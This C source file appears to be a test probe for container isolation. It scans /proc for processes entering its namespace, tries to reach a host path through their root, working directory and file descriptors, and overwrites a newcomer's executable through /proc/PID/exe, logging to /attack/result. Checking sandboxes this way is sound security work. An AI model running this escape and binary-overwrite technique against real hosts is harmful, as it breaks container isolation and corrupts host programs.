// watch PATH: looks at every process that appears in this pid namespace, as a process with CAP_SYS_PTRACE may, for a way to PATH on
// the host: by its root, its working directory and its descriptors. It also opens what the process executes, and overwrites it as
// soon as nobody does any more. Findings go to /attack/result; the first line says that it has begun, /attack/stop ends it.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static FILE *result;
static struct stat self, shell;

static void try_path(const char *how, const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        fprintf(result, "escape %s %s\n", how, path);
        fflush(result);
        close(fd);
    }
}

static int try_program(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_RDONLY);
    struct stat status;
    if (fd < 0)
        return -1;
    if (fstat(fd, &status) < 0 || status.st_ino == self.st_ino || status.st_ino == shell.st_ino) {
        // One of the container's own.
        close(fd);
        return -1;
    }
    return fd;
}

static void overwrite(int program) {
    char path[64], target[512] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    (void)readlink(path, target, sizeof target - 1);
    int fd = open(path, O_WRONLY);
    if (fd < 0) {
        fprintf(result, "program %s %s\n", target, strerror(errno));
    } else {
        fprintf(result, "program %s %s\n", target, write(fd, "overwritten", 11) == 11 ? "overwritten" : strerror(errno));
        close(fd);
    }
    fflush(result);
}

int main(int count, char **arguments) {
    char path[4096];
    int program = -1;
    result = fopen("/attack/result", "w");
    stat("/proc/self/exe", &self);
    stat("/bin/sh", &shell);
    fprintf(result, "watching\n");
    fflush(result);
    char seen[32] = "";
    alarm(180);
    while (access("/attack/stop", F_OK) != 0) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes));) {
            const char *pid = entry->d_name;
            if (*pid < '0' || *pid > '9' || atoi(pid) == getpid())
                continue;
            if (strcmp(pid, seen) != 0) {
                snprintf(seen, sizeof seen, "%s", pid);
                fprintf(result, "seen %s\n", pid);
            }
            snprintf(path, sizeof path, "/proc/%s/root%s", pid, arguments[count - 1]);
            try_path("root", path);
            snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../..%s", pid, arguments[count - 1]);
            try_path("cwd", path);
            for (int fd = 3; fd < 24; fd++) {
                snprintf(path, sizeof path, "/proc/%s/fd/%d%s", pid, fd, arguments[count - 1]);
                try_path("fd", path);
            }
            if (program < 0)
                program = try_program(pid);
        }
        closedir(processes);
    }
    if (program >= 0)
        overwrite(program);
    fclose(result);
    return 0;
}
